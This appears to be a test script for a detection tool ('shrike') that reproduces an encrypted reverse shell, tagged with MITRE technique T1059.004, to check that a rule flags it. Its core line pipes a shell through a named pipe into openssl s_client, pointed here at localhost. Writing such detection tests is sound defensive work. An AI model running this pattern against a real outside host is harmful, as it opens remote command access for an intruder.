#!/bin/sh
# rule: Text client carries a session
# technique: T1059.004
# case: a shell between a named pipe and openssl
# needs: openssl
# blind: audit, connector

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
. "${0%/*}/../undo.inc"
outside
mkfifo pipe
sh < pipe 2>&1 | openssl s_client -brief -connect 127.0.0.1:9 > pipe 2> /dev/null
true
